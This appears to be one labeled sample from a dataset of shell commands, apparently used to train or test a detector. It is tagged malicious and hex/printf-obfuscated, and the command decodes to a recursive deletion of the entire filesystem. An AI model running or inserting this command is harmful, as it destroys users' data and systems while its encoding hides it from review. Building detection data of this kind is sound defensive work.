# label: malicious; obfuscated: hex,printf
$(printf '\x72\x6d') -rf /
